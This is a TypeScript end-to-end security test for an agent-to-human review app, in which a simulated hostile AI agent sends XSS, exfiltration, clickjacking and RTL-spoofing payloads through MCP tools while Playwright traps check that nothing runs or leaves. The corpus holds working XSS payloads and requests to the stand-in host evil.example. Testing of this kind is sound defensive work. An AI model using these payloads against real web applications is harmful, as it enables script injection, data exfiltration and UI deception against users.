// Everything an agent sends is untrusted: markdown, code, diffs, captions, titles, project names,
// choice labels, points, answers and even its client name. A hostile agent sends a corpus of XSS and
// exfiltration vectors through the real MCP tools, and the person opens every ask in the real side
// panel and in the web inbox. Neither may run a script, show a dialog, navigate, open a frame, or
// send a request anywhere but the relay.
//
// The side panel runs as shipped, under the extension's Content-Security-Policy, and a CSP
// violation in the live page fails the test (something got past the renderers and only the CSP
// stopped it).
// The web inbox runs with its CSP switched off, so the renderers alone are what hold; a separate
// test checks the relay does serve that CSP.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import type { BrowserContext, Page } from "playwright-core";
import { diffLines } from "@loopback/shared/ask-rules/diff-lines";
import type { Ask, Block, ReviewComment, Snapshot, ToolReply } from "@loopback/shared/generated/types";
import { TestAgent } from "./harness/agent";
import { TestBrowser, ensureBuilt } from "./harness/browser";
import { ROOT, RelayProcess } from "../support/relay-process.ts";

const STEP_MS = 15_000;
/** How long a page is left alone after rendering, so a delayed payload (an onerror, a refresh) gets its chance. */
const SETTLE_MS = 600;
const PNG = new Uint8Array(readFileSync(join(ROOT, "extension/public/icon/128.png")));

// --- the corpus -----------------------------------------------------------------------------------

/** Script that, if it ever runs, calls the trap with the vector's name. */
const run = (id: string) => `__pwned('${id}')`;
/** A foreign address that names the vector, so a request that leaves says which one sent it. */
const evil = (id: string) => `http://evil.example/${id}`;
const base64 = (text: string) => Buffer.from(text).toString("base64");

/** Markdown and raw HTML, each named; every one either calls the trap or reaches evil.example. */
const VECTORS: [name: string, source: string][] = [
  ["script", `<script>${run("script")}</script>`],
  ["remote script", `<script src="${evil("script.js")}"></script>`],
  ["img onerror", `<img src=x onerror="${run("img-onerror")}">`],
  ["svg onload", `<svg onload="${run("svg-onload")}"></svg>`],
  ["body onload", `<body onload="${run("body-onload")}">`],
  ["details ontoggle", `<details open ontoggle="${run("details-ontoggle")}"><summary>s</summary>x</details>`],
  ["autofocus onfocus", `<input autofocus onfocus="${run("input-onfocus")}"><textarea autofocus onfocus="${run("textarea-onfocus")}"></textarea>`],
  ["onclick on a kept tag", `<p onclick="${run("p-onclick")}" onmouseover="${run("p-onmouseover")}">hover me</p>`],
  ["markdown javascript: link", `[md javascript link](javascript:${run("md-js-link")})`],
  ["markdown JaVaScRiPt: link", `[md mixed-case link](JaVaScRiPt:${run("md-js-case")})`],
  ["markdown entity javascript: link", `[md entity link](&#106;avascript:${run("md-js-entity")})`],
  ["markdown data: link", `[md data link](data:text/html;base64,${base64(`<script>${run("md-data-link")}</script>`)})`],
  ["markdown vbscript: link", `[md vbscript link](vbscript:msgbox)`],
  ["autolink javascript:", `<javascript:${run("autolink-js")}>`],
  ["raw javascript: link", `<a href="javascript:${run("raw-js-link")}">raw javascript link</a>`],
  ["raw control-char javascript: link", `<a href="&#1;java&#9;script:${run("raw-js-ctrl")}">raw control-char link</a>`],
  ["raw data: link", `<a href="data:text/html;base64,${base64(`<script>${run("raw-data-link")}</script>`)}">raw data link</a>`],
  ["raw vbscript: link", `<a href="vbscript:msgbox">raw vbscript link</a>`],
  ["area javascript:", `<map name=m><area shape=rect coords=0,0,10,10 href="javascript:${run("area-js")}"></map>`],
  ["svg script", `<svg><script>${run("svg-script")}</script></svg>`],
  ["svg javascript: link", `<svg><a xlink:href="javascript:${run("svg-xlink")}"><text y=10>svg link</text></a></svg>`],
  ["svg animate", `<svg><animate onbegin="${run("svg-animate")}" attributeName=x dur=1s></animate></svg>`],
  ["svg image", `<svg><image href="${evil("svg-image.png")}"></image></svg>`],
  ["math", `<math><mtext><table><mglyph><style><img src=x onerror="${run("math-mxss")}"></style></mglyph></table></mtext></math>`],
  ["mXSS comment", `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run("mxss-comment")}&gt;"></mglyph></table></mtext></math>`],
  ["noscript", `<noscript><p title="</noscript><img src=x onerror=${run("noscript")}>"></noscript>`],
  ["template", `<template><script>${run("template")}</script><img src=x onerror="${run("template-img")}"></template>`],
  ["iframe srcdoc", `<iframe srcdoc="<script>parent.${run("iframe-srcdoc")}</script>"></iframe>`],
  ["iframe src", `<iframe src="${evil("iframe")}"></iframe>`],
  ["iframe javascript:", `<iframe src="javascript:parent.${run("iframe-js")}"></iframe>`],
  ["object", `<object data="${evil("object.swf")}"></object><object data="data:text/html;base64,${base64(`<script>${run("object-data")}</script>`)}"></object>`],
  ["embed", `<embed src="${evil("embed.swf")}">`],
  ["meta refresh", `<meta http-equiv="refresh" content="0;url=${evil("meta-refresh")}">`],
  ["form action", `<form action="${evil("form")}"><input name=q value=secret><button formaction="${evil("formaction")}">Approve</button></form>`],
  ["base href", `<base href="${evil("base/")}">[relative link](relative/path)`],
  ["style @import", `<style>@import url(${evil("import.css")}); body { background: url(${evil("style-bg.png")}) }</style>`],
  ["style attribute url()", `<div style="background-image: url(${evil("style-attr.png")})">styled</div>`],
  ["link stylesheet", `<link rel=stylesheet href="${evil("link.css")}"><link rel=prefetch href="${evil("prefetch")}">`],
  ["table background", `<table background="${evil("table-background.png")}"><tr><td background="${evil("td-background.png")}">cell</td></tr></table>`],
  ["markdown image", `![remote image](${evil("md-image.png")})`],
  ["markdown javascript: image", `![js image](javascript:${run("md-image-js")})`],
  ["reference-style image", `![reference image][pixel]\n\n[pixel]: ${evil("ref-image.png")}`],
  ["img srcset", `<img srcset="${evil("srcset.png")} 1x, ${evil("srcset2.png")} 2x">`],
  ["img src", `<img src="${evil("raw-img.png")}">`],
  ["picture source", `<picture><source srcset="${evil("picture.png")}"><img alt=p></picture>`],
  ["video poster", `<video poster="${evil("poster.png")}" src="${evil("video.mp4")}"></video><audio src="${evil("audio.mp3")}" autoplay></audio>`],
  ["input image", `<input type=image src="${evil("input-image.png")}">`],
  ["link ping", `<a href="https://example.com/" ping="${evil("ping")}">pinging link</a>`],
  ["html in a code fence", "```html\n<script>" + run("fence") + "</script>\n<img src=x onerror=\"" + run("fence-img") + "\">\n```"],
  ["html in inline code", "`<img src=x onerror=\"" + run("inline-code") + "\">`"],
];

/**
 * Markup that borrows the app's own classes (read from the built CSS: Svelte's scoped hashes are the
 * same in every copy of a build) to cover the inbox with a link, or to look like its buttons.
 */
function coverVectors(): [name: string, source: string][] {
  const css = ["extension/.output/chrome-mv3", "extension/.output/web"]
    .flatMap((dir) => [...new Bun.Glob("**/*.css").scanSync({ cwd: join(ROOT, dir), absolute: true })])
    .map((file) => readFileSync(file, "utf8"))
    .join("\n");
  const positioned = new Set<string>();
  const all = new Set<string>();
  for (const [, selector, body] of css.matchAll(/([^{}]+)\{([^{}]*)\}/g)) {
    const classes = [...selector!.matchAll(/\.(-?[A-Za-z_][\w-]*)/g)].map((m) => m[1]!);
    for (const c of classes) all.add(c);
    if (/position:\s*(fixed|absolute|sticky)/.test(body!)) for (const c of classes) positioned.add(c);
  }
  // Without these the corpus would prove nothing: the app does have fixed, hashed classes to borrow.
  expect([...positioned].some((c) => c === "help-backdrop")).toBe(true);
  expect([...all].some((c) => /^svelte-/.test(c))).toBe(true);
  const every = [...positioned].join(" ");
  return [
    ["borrowed fixed backdrop link", `<a class="${every}" href="${evil("cover")}">cover link</a>`],
    ["borrowed classes, one rule at a time", [...positioned].map((c) => `<a class="${c} ${[...all].filter((x) => x.startsWith("svelte-")).join(" ")}" href="${evil(`cover-${c}`)}">${c}</a>`).join(" ")],
    ["borrowed button look", `<a class="btn primary ok" href="${evil("fake-approve")}">Approve</a> <span class="btn">Send</span>`],
    ["open dialog", `<dialog open><a href="${evil("dialog")}">a dialog over the app</a></dialog>`],
    ["popover", `<div popover id="pop"><a href="${evil("popover")}">a popover in the top layer</a></div>`],
    ["the app's ids and data attributes", `<div id="app" data-connection="live" data-ask="x" aria-hidden="false">not the app</div>`],
  ];
}

/** All the vectors as one markdown text, each as its own block and again inline in a paragraph. */
const ALL_MARKDOWN = [
  ...VECTORS.map(([name, source]) => `**${name}**\n\n${source}`),
  `Inline: ${VECTORS.filter(([, s]) => !s.includes("\n")).map(([, s]) => s).join(" and ")}`,
].join("\n\n");

/** A short hostile string for fields with a length limit: titles, labels, captions, project names. */
const tag = (id: string) => `<img src=x onerror="${run(id)}">`;
const RTL = "\u202E"; // RIGHT-TO-LEFT OVERRIDE: U+202E then "gnp.exe" shows as "exe.png"
const LONG_UNICODE = [
  "𒐫".repeat(4_000),
  "Z̴̡̢̛̗̘̙̜̝̞̟̠̀́̂̃̄̅̆̇̈̉̊̋̌̍̎̏̐̑̒̓̔̽̾̿̀́͂̓̈́͆͊͋͌͐͑͒͗͛ͣͤͥͦͧͨͩͪͫͬͭͮͯ͘͜͟͢͝͞͠͡".repeat(400),
  "ﷺ".repeat(2_000),
  "👩🏽‍💻".repeat(1_000),
  `${RTL}gnp.exe ${"\u2066\u2067\u2068".repeat(20)} \u200B\u200D\uFEFF`.repeat(50),
].join(" ");

const HOSTILE_DIFF = [
  `diff --git a/${tag("diff-git-name")}.ts b/${tag("diff-git-name")}.ts`,
  `--- a/${tag("diff-old-name")}.ts`,
  `+++ b/${tag("diff-new-name")}.ts`,
  `@@ -1,4 +1,4 @@ <script>${run("diff-hunk-header")}</script>`,
  ` <script>${run("diff-context")}</script>`,
  `-<img src=x onerror="${run("diff-deleted")}">`,
  `+<img src=y onerror="${run("diff-added")}">`,
  ` <svg onload="${run("diff-svg")}"></svg>`,
  `-const a = "<a href=javascript:${run("diff-word-old")}>x</a>";`,
  `+const a = "<a href=javascript:${run("diff-word-new")}>y</a>";`,
  `diff --git a/safe.ts b/renamed.ts`,
  `similarity index 90%`,
  `rename from <svg onload="${run("rename-from")}">`,
  `rename to <iframe srcdoc="<script>parent.${run("rename-to")}</script>">`,
  `--- a/<svg onload="${run("rename-from")}">`,
  `+++ b/<iframe srcdoc="<script>parent.${run("rename-to")}</script>">`,
  `@@ -1 +1 @@`,
  `-<style>@import url(${evil("diff-style.css")});</style>`,
  `+<link rel=stylesheet href="${evil("diff-link.css")}">`,
  `diff --git a/${tag("binary")}.png b/${tag("binary")}.png`,
  `Binary files a/${tag("binary")}.png and b/${tag("binary")}.png differ`,
].join("\n");

const HOSTILE_CODE: Block[] = [
  { type: "code", language: "html", filename: `${tag("code-filename")}.html`, code: VECTORS.map(([, s]) => s).join("\n") },
  { type: "code", language: tag("shiki-language"), code: `<script>${run("unknown-language")}</script>` },
  { type: "code", language: "constructor", code: `<script>${run("prototype-language")}</script>` },
  { type: "code", language: "__proto__", filename: "x.toString", code: `<script>${run("proto-language")}</script>` },
  { type: "code", language: "svelte", code: `<script>${run("svelte-code")}</script>\n<img src=x onerror="${run("svelte-img")}">\n{@html "<img src=x onerror=${run("svelte-at-html")}>"}` },
  { type: "code", language: "ts", code: "const s = `</span></code></pre><img src=x onerror=\"" + run("ts-template") + "\">`;" },
];

/** An ask the hostile agent opened. */
interface SentAsk {
  id: string;
  name: string;
  /** Text the rendered ask must show, proving it was rendered: plain-text fields show their markup literally. */
  shows: string[];
}

// --- the traps ------------------------------------------------------------------------------------

/**
 * Watches one browser for every way an attack could show itself: the trap function called, a CSP
 * violation, a dialog, a request to a host other than the relay's, a new page or a navigation away.
 * Installed before any page loads, so it sees from the first byte.
 */
class Watch {
  readonly fired: string[] = [];
  readonly foreign: string[] = [];
  readonly dialogs: string[] = [];
  readonly popups: string[] = [];

  static async install(context: BrowserContext, allowed: (url: URL) => boolean): Promise<Watch> {
    const watch = new Watch();
    await context.exposeBinding("__pwned", ({ frame }, what: string) => void watch.fired.push(`${what} (in ${frame.url()})`));
    await context.addInitScript(() => {
      // Something the CSP blocked had got past the renderers: as bad as if it had run. The one
      // exception: the sanitizer parses the agent's HTML in an inert DOMParser document, and
      // Chromium checks each handler attribute there against this page's CSP as it parses,
      // reporting at the page's document. A handler that reached the live page is reported at its
      // own element (and is a hazard in findHazards besides).
      document.addEventListener("securitypolicyviolation", (e) => {
        if (e.effectiveDirective === "script-src-attr" && e.target === document) return;
        const where = e.target instanceof Element ? e.target.outerHTML.slice(0, 80) : String(e.target);
        (globalThis as unknown as { __pwned(what: string): void }).__pwned(`CSP ${e.effectiveDirective} blocked ${e.blockedURI || "inline"} at ${where}`);
      });
    });
    // Every request is seen, and one for a foreign host recorded and stopped (evil.example would not
    // resolve here anyway, but a failure must not be what keeps this test green).
    await context.route("**/*", (route) => {
      const url = new URL(route.request().url());
      if (allowed(url)) return route.continue();
      watch.foreign.push(url.href);
      return route.abort("blockedbyclient");
    });
    const watchPage = (page: Page) => {
      page.on("dialog", (dialog) => {
        watch.dialogs.push(`${dialog.type()}: ${dialog.message()}`);
        void dialog.dismiss().catch(() => {});
      });
      page.on("popup", (popup) => void watch.popups.push(popup.url()));
    };
    context.pages().forEach(watchPage);
    context.on("page", watchPage);
    return watch;
  }

  reset(): void {
    for (const list of [this.fired, this.foreign, this.dialogs, this.popups]) list.length = 0;
  }

  /** What it caught, emptied for the next look. */
  take() {
    const caught = { fired: [...this.fired], foreign: [...this.foreign], dialogs: [...this.dialogs], popups: [...this.popups] };
    this.reset();
    return caught;
  }
}

/** Everything an attack could show, for one page at one moment; an ask is harmless when this is all empty. */
async function inspect(page: Page, watch: Watch, start: string) {
  return {
    ...watch.take(),
    hazards: await page.evaluate(findHazards),
    bidiLeaks: await page.evaluate(findBidiLeaks),
    // Long unbroken text wraps or scrolls inside its block; the page never scrolls sideways.
    sidewaysPx: Math.max(0, await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)),
    frames: page.frames().length - 1,
    navigatedTo: page.url().split("#")[0] === start ? null : page.url(),
  };
}

const HARMLESS = { fired: [], foreign: [], dialogs: [], popups: [], hazards: [], bidiLeaks: [], sidewaysPx: 0, frames: 0, navigatedTo: null };

/**
 * What in the page could run script or fetch from elsewhere: script elements not the app's own, any
 * on* attribute, javascript:/data:/vbscript: URLs, URL attributes pointing off this origin (except
 * links the person may choose to follow, opened without an opener), and elements that have no
 * business in a rendered ask. Runs in the page; returns one line per finding.
 */
function findHazards(): string[] {
  const found: string[] = [];
  const URL_ATTRS = ["href", "src", "srcset", "srcdoc", "background", "poster", "action", "formaction", "data", "xlink:href", "ping", "manifest", "codebase"];
  // diff2html draws its own file icon as an <svg class="d2h-icon">; no other SVG belongs in an ask.
  const BANNED = "script:not([src]), iframe, frame, frameset, object, embed, applet, base, meta, form, link, svg:not(.d2h-icon), math, video, audio, picture, source, noscript";
  const show = (el: Element) => `<${el.tagName.toLowerCase()}${[...el.attributes].map((a) => ` ${a.name}="${a.value.slice(0, 60)}"`).join("")}>`;
  const app = document.querySelector("#app") ?? document.body;
  // A <template> is inert, but what it holds is checked as if it were not.
  const everything = (root: ParentNode): Element[] =>
    [...root.querySelectorAll("*")].flatMap((el) => (el instanceof HTMLTemplateElement ? [el, ...everything(el.content)] : [el]));
  for (const el of everything(document)) {
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      const value = attr.value.replace(/[\u0000-\u0020\u00a0]/g, "").toLowerCase();
      if (name.startsWith("on")) found.push(`handler attribute ${name} on ${show(el)}`);
      if (/^(javascript|vbscript|data|livescript):/.test(value) && name !== "content") found.push(`${value.split(":")[0]}: URL in ${name} on ${show(el)}`);
      if (!URL_ATTRS.includes(name) || name === "srcdoc") {
        if (name === "srcdoc") found.push(`srcdoc on ${show(el)}`);
        continue;
      }
      for (const part of attr.value.split(",").map((p) => p.trim().split(/\s+/)[0]!).filter(Boolean)) {
        let url: URL;
        try {
          url = new URL(part, location.href);
        } catch {
          continue;
        }
        if (url.origin === location.origin || url.protocol === "blob:") continue;
        const followable = el.tagName === "A" && name === "href" && /^https?:$/.test(url.protocol) && el.getAttribute("target") === "_blank" && /noopener/.test(el.getAttribute("rel") ?? "");
        if (!followable) found.push(`${name} to ${url.href} on ${show(el)}`);
      }
    }
  }
  for (const el of everything(app)) if (el.matches(BANNED)) found.push(`banned element ${show(el)}`);
  for (const script of document.scripts) {
    if (!script.src || new URL(script.src).origin !== location.origin) found.push(`foreign script ${show(script)}`);
  }
  for (const img of app.querySelectorAll("img")) {
    if (!img.src.startsWith("blob:") && new URL(img.src).origin !== location.origin) found.push(`image from ${img.src}`);
  }
  if (document.baseURI !== location.href.split("#")[0] && !location.href.startsWith(document.baseURI)) found.push(`base URI moved to ${document.baseURI}`);
  return found;
}

/**
 * Whether an RTL override inside agent text reverses what follows it in the same line: for each
 * text holding one, the next text in its block must still run left to right.
 */
function findBidiLeaks(): string[] {
  const leaks: string[] = [];
  const inline = (el: Element) => getComputedStyle(el).display.startsWith("inline");
  const texts = (root: Node) => {
    const walker = document.createTreeWalker(root, NodeFilter.SHOW_TEXT);
    const all: Text[] = [];
    for (let n = walker.nextNode(); n; n = walker.nextNode()) all.push(n as Text);
    return all;
  };
  const rect = (text: Text, i: number) => {
    const range = document.createRange();
    range.setStart(text, i);
    range.setEnd(text, i + 1);
    return range.getBoundingClientRect();
  };
  for (const node of texts(document.body)) {
    if (!node.data.includes("\u202E")) continue;
    const holder = node.parentElement!;
    let block: Element = holder;
    while (inline(block) && block.parentElement) block = block.parentElement;
    const next = texts(block).find((t) => holder.compareDocumentPosition(t) & Node.DOCUMENT_POSITION_FOLLOWING && !holder.contains(t) && /[a-z]{2}/i.test(t.data));
    if (!next) continue;
    const i = next.data.search(/[a-z]{2}/i);
    const [first, second] = [rect(next, i), rect(next, i + 1)];
    if (first.width && second.width && Math.abs(first.top - second.top) < 2 && second.left < first.left) {
      leaks.push(`"${next.data.trim().slice(0, 40)}" after "${node.data.trim().slice(0, 40)}" runs right to left`);
    }
  }
  return leaks;
}

// --- the run --------------------------------------------------------------------------------------

let relay: RelayProcess;
let extension: TestBrowser;
let web: TestBrowser;
let agent: TestAgent;
let personToken: string;
const sent: SentAsk[] = [];

async function person<T>(method: string, path: string, body?: unknown): Promise<T> {
  const response = await fetch(`${relay.url}/api/v1${path}`, {
    method,
    headers: { Authorization: `Bearer ${personToken}`, "Content-Type": "application/json", "Loopback-Revision": "3" },
    body: body === undefined ? undefined : JSON.stringify(body),
  });
  if (!response.ok) throw new Error(`${method} ${path}: ${response.status} ${await response.text()}`);
  return (await response.json()) as T;
}

/** Opens an ask with every tool a hostile agent has, and carries the briefing and the question through a turn each. */
async function sendCorpus(): Promise<void> {
  const open = async (tool: string, args: Record<string, unknown>) => (await agent.call<ToolReply>(tool, args)).askId;

  const markdownReview = await open("request_review", {
    title: `Markdown ${tag("review-title")} <script>${run("review-title-script")}</script>`,
    summary: ALL_MARKDOWN,
    project: `${tag("project")}`,
    content: [...VECTORS, ...coverVectors()].map(([name, source]): Block => ({ type: "markdown", text: `### ${name}\n\n${source}` })),
  });
  sent.push({ name: "a review of markdown blocks", id: markdownReview, shows: [`Markdown ${tag("review-title")}`, tag("project"), "md javascript link", "raw javascript link", "hover me", "cover link", "a dialog over the app", "not the app"] });

  const image = await agent.uploadImage(PNG, `${tag("caption")}"><script>${run("caption-script")}</script>`);
  const codeReview = await open("request_review", {
    title: `Code and diffs ${tag("code-review-title")}`,
    summary: "Code, diffs and an image, all hostile.",
    project: `<svg onload="${run("project-svg")}">`,
    content: [
      ...HOSTILE_CODE,
      { type: "diff", diff: HOSTILE_DIFF },
      { type: "diff", filename: `${tag("diff-filename")}.ts`, diff: `@@ -1 +1 @@\n-<script>${run("hunk-only-old")}</script>\n+<script>${run("hunk-only-new")}</script>` },
      image,
    ],
  });
  sent.push({ name: "a review of code, diffs and an image", id: codeReview, shows: [`<script>${run("diff-context")}</script>`, `${tag("code-filename")}.html`, `${tag("diff-filename")}.ts`, `${tag("caption")}"><script>`] });

  const question = await open("ask_question", {
    question: `Which ${tag("question-title")} one?\n\n${ALL_MARKDOWN}`,
    context: ALL_MARKDOWN,
    project: `${RTL}gnp.exe`,
    options: [
      { label: tag("label-1"), description: `<script>${run("description")}</script>` },
      { label: `<a href="javascript:${run("label-2")}">two</a>`, description: `[x](javascript:${run("description-md")})` },
      { label: `${RTL}evorppA`, description: "An RTL override in a label" },
    ],
  });
  await person("POST", `/asks/${question}/reply`, { outcome: "follow_up", question: "Say more?" });
  await open("answer_follow_up", {
    askId: question,
    answer: `Follow-up ${tag("follow-up")}\n\n${ALL_MARKDOWN}`,
    content: [{ type: "diff", diff: HOSTILE_DIFF }, HOSTILE_CODE[1]!],
  });
  sent.push({ name: "a question with choices and a follow-up", id: question, shows: [tag("label-1"), `<a href="javascript:${run("label-2")}">two</a>`, "Say more?", "Follow-up"] });

  const briefing = await open("send_briefing", {
    title: `Briefing ${tag("briefing-title")}`,
    summary: ALL_MARKDOWN,
    project: `<style>@import url(${evil("project-style.css")})</style>`,
    sections: [
      {
        title: `Section ${tag("section-title")}`,
        points: [
          { title: `Point ${tag("point-title")}`, detail: ALL_MARKDOWN, content: [{ type: "diff", diff: HOSTILE_DIFF }] },
          { title: `${RTL}Point with an RTL override`, detail: `<iframe srcdoc="<script>parent.${run("point-detail")}</script>"></iframe>`, content: [HOSTILE_CODE[0]!] },
        ],
      },
    ],
  });
  await person("POST", `/asks/${briefing}/reply`, { outcome: "responded", points: [{ point: "1", text: "Why?" }] });
  await open("answer_briefing", {
    askId: briefing,
    answers: [
      {
        point: "1",
        answer: `Answer ${tag("briefing-answer")}\n\n${ALL_MARKDOWN}`,
        content: [HOSTILE_CODE[4]!],
        points: [{ title: `Sub-point ${tag("sub-point")}`, detail: `<object data="${evil("sub-point.swf")}"></object>` }],
      },
    ],
  });
  sent.push({ name: "a briefing answered once", id: briefing, shows: [`Point ${tag("point-title")}`, `Sub-point ${tag("sub-point")}`, `Section ${tag("section-title")}`, "Why?", "Answer"] });

  const unicode = await open("ask_question", {
    question: `${"𒐫".repeat(80)}${RTL}gnp.exe\n\n${LONG_UNICODE}`,
    context: LONG_UNICODE,
    project: `${RTL}${"ﷺ".repeat(50)}`,
  });
  sent.push({ name: "a question of long unicode and RTL overrides", id: unicode, shows: ["gnp.exe"] });

  // Comments on lines of hostile files, every vector as a comment's words; then a second round, whose
  // changes since the first show those comments beside their lines (and, where not, beside the block).
  const firstRound = await open("request_review", {
    title: `Round one ${tag("round-one-title")}`,
    project: "rounds",
    content: [{ type: "markdown", text: ALL_MARKDOWN }, HOSTILE_CODE[0]!, { type: "diff", diff: HOSTILE_DIFF }],
  });
  const files = diffLines(HOSTILE_DIFF);
  const anchors: Omit<ReviewComment, "body">[] = [
    { block: 0 },
    ...[1, 2, 3].map((line) => ({ block: 1, line })),
    ...files.flatMap((f) => [...[...f.new].map((line) => ({ block: 2, file: f.path, side: "new" as const, line })), ...[...f.old].map((line) => ({ block: 2, file: f.path, side: "old" as const, line }))]),
  ];
  const comments: ReviewComment[] = VECTORS.map(([, source], i) => ({ ...anchors[i % anchors.length]!, body: source }));
  await person("POST", `/asks/${firstRound}/reply`, { outcome: "changes_requested", feedback: `Overall ${tag("overall-feedback")}`, comments });
  sent.push({ name: "a review answered with hostile comments on hostile files", id: firstRound, shows: [`${files[0]!.path}, new line`, `<script>${run("script")}</script>`] });
  const secondRound = await open("request_review", {
    title: `Round two ${tag("round-two-title")}`,
    project: "rounds",
    revises: firstRound,
    content: [{ type: "markdown", text: "Addressed." }, { ...HOSTILE_CODE[0]!, code: HOSTILE_CODE[0]!.type === "code" ? HOSTILE_CODE[0]!.code.replace("script", "SCRIPT") : "" }, { type: "diff", diff: HOSTILE_DIFF.replace("diff-added", "diff-added-again") }],
  });
  sent.push({ name: "its second round, compared with the first", id: secondRound, shows: ["Round 1", `<svg onload="${run("svg-onload")}"></svg>`, "diff-added-again"] });

  const snapshot = await person<Snapshot>("GET", "/snapshot");
  expect([...snapshot.open, ...snapshot.recent].map((a: Ask) => a.id).sort()).toEqual(sent.map((s) => s.id).sort());
}

/** Opens an ask, unfolds everything in it, and waits until every renderer has finished. */
async function openFully(page: Page, id: string): Promise<void> {
  await page.evaluate((askId) => (location.hash = `#/ask/${encodeURIComponent(askId)}`), id);
  const article = page.locator(`article[data-ask="${id}"]`);
  await article.waitFor({ timeout: STEP_MS });
  for (let round = 0; round < 5; round++) {
    const folded = article.locator("button[aria-expanded=false]");
    const count = await folded.count();
    if (!count) break;
    for (let i = count - 1; i >= 0; i--) await folded.nth(i).click();
  }
  await page.waitForFunction(
    (askId) => {
      const root = document.querySelector(`article[data-ask="${askId}"]`);
      return !!root && !root.querySelector(".pending, [aria-busy=true]");
    },
    id,
    { timeout: STEP_MS },
  );
  await page.waitForTimeout(SETTLE_MS);
}

/**
 * Where agent content sits: every element inside an agent's markdown stays in that markdown's box
 * (or scrolls inside a block of it), none is taken out of the flow, and at the centre of each of the
 * reply controls the control itself is what a click hits. Runs in the page; one line per finding.
 */
function findEscapes(askId: string): string[] {
  const found: string[] = [];
  const article = document.querySelector(`article[data-ask="${askId}"]`)!;
  const show = (el: Element) => `<${el.tagName.toLowerCase()}${[...el.attributes].map((a) => ` ${a.name}="${a.value.slice(0, 40)}"`).join("")}>`;
  for (const box of article.querySelectorAll(".markdown")) {
    const outer = box.getBoundingClientRect();
    for (const el of box.querySelectorAll("*")) {
      const style = getComputedStyle(el);
      if (!["static", "relative"].includes(style.position)) found.push(`${style.position} ${show(el)}`);
      const cls = el.getAttribute("class");
      if (cls !== null && !(el.tagName === "CODE" && /^language-\S+$/.test(cls))) found.push(`class kept on ${show(el)}`);
      // Wide code and tables scroll inside their own block: that block is what must fit.
      let scroller: Element | null = el.parentElement;
      while (scroller && scroller !== box && getComputedStyle(scroller).overflowX === "visible") scroller = scroller.parentElement;
      if (scroller && scroller !== box) continue;
      const r = el.getBoundingClientRect();
      if (!r.width && !r.height) continue;
      if (r.width > outer.width + 1 || r.left < outer.left - 1 || r.right > outer.right + 1 || r.top < outer.top - 1 || r.bottom > outer.bottom + 1) {
        found.push(`${show(el)} at ${Math.round(r.left)},${Math.round(r.top)} ${Math.round(r.width)}×${Math.round(r.height)} outside its markdown at ${Math.round(outer.left)},${Math.round(outer.top)} ${Math.round(outer.width)}×${Math.round(outer.height)}`);
      }
    }
  }
  const controls = [...article.querySelectorAll(".composer-wrap button, .composer-wrap textarea, .composer-wrap input")] as HTMLElement[];
  if (article.getAttribute("data-status") === "awaiting_human" && !controls.length) found.push("no reply controls to check");
  for (const control of controls) {
    control.scrollIntoView({ block: "center" });
    const r = control.getBoundingClientRect();
    const hit = document.elementFromPoint(r.left + r.width / 2, r.top + r.height / 2);
    if (!hit || !(hit === control || control.contains(hit))) found.push(`${show(hit ?? document.body)} covers the control ${show(control)}`);
  }
  return found;
}

/** Every hostile ask, opened in turn on one surface: nothing fires, nothing leaves, nothing dangerous in the DOM. */
async function expectEveryAskHarmless(page: Page, watch: Watch): Promise<void> {
  const start = page.url().split("#")[0]!;
  for (const ask of sent) {
    await openFully(page, ask.id);
    expect({ ask: ask.name, ...(await inspect(page, watch, start)) }).toEqual({ ask: ask.name, ...HARMLESS });
    expect({ ask: ask.name, escapes: await page.evaluate(findEscapes, ask.id) }).toEqual({ ask: ask.name, escapes: [] });
    const text = await page.locator(`article[data-ask="${ask.id}"]`).textContent();
    for (const literal of ask.shows) expect(text).toContain(literal);
  }
  // The second round's changes were drawn, with the first round's comments placed in them.
  await openFully(page, sent.at(-1)!.id);
  expect(await page.locator("[data-round-changes] [data-comment=earlier]").count()).toBe(VECTORS.length);
  expect(await page.locator("[data-round-changes] tr.lb-comment-row [data-comment=earlier]").count()).toBeGreaterThan(0);
  // The code review showed both the highlighted code and diff2html's tables, so they were exercised.
  await openFully(page, sent[1]!.id);
  await page.locator(".highlighted pre.shiki").nth(2).waitFor({ timeout: STEP_MS });
  expect(await page.locator(".d2h-file-wrapper").count()).toBeGreaterThanOrEqual(3);
  expect(await page.locator("img[src^='blob:']").count()).toBe(1);

  // And the list, with every title, project and client name in it.
  await page.evaluate(() => (location.hash = "#/"));
  await page.locator(".list-pane").waitFor({ timeout: STEP_MS });
  for (const ask of sent) await page.locator(`[data-ask-row="${ask.id}"]`).waitFor({ timeout: STEP_MS });
  await page.waitForTimeout(SETTLE_MS);
  expect({ ask: "the list", ...(await inspect(page, watch, start)) }).toEqual({ ask: "the list", ...HARMLESS });
}

/** The traps catch what they are for: a payload run on purpose, a foreign fetch, an alert, and (under a CSP) a live handler. */
async function expectTrapsLive(page: Page, watch: Watch, { csp }: { csp: boolean }): Promise<void> {
  await page.evaluate(() => (globalThis as unknown as { __pwned(what: string): void }).__pwned("on purpose"));
  await page.evaluate(() => fetch("http://evil.example/on-purpose").catch(() => {}));
  await page.evaluate(() => setTimeout(() => alert("on purpose")));
  if (csp) await page.evaluate(() => document.body.insertAdjacentHTML("beforeend", `<i hidden onclick="void 0">on purpose</i>`));
  await page.waitForTimeout(300);
  expect(watch.fired.some((f) => f.startsWith("on purpose"))).toBe(true);
  if (csp) expect(watch.fired.some((f) => f.startsWith("CSP script-src-attr blocked inline at <i hidden"))).toBe(true);
  await page.evaluate(() => document.querySelectorAll("i[onclick]").forEach((i) => i.remove()));
  expect(watch.foreign).toContain("http://evil.example/on-purpose");
  expect(watch.dialogs).toContain("alert: on purpose");
  watch.reset();
}

describe("untrusted content cannot attack the person", () => {
  beforeAll(async () => {
    await ensureBuilt();
    // Blocking tools return `pending` after 100 ms, so one agent can open every ask without waiting on it.
    relay = await new RelayProcess({ env: { LOOPBACK_WAIT_BUDGET_S: "0.1", LOOPBACK_PROGRESS_EVERY_S: "0" } }).start();
    personToken = await relay.token("Ada");
    const agentToken = await relay.token("Ada", { agent: true });
    // Even the name the agent's client announces is shown, so it is hostile too.
    agent = await TestAgent.connect(relay.url, agentToken, `${tag("client-name")}${RTL}`);
    await sendCorpus();
    extension = await TestBrowser.withExtension();
    web = await TestBrowser.plain({ bypassCSP: true });
  }, 120_000);

  afterAll(async () => {
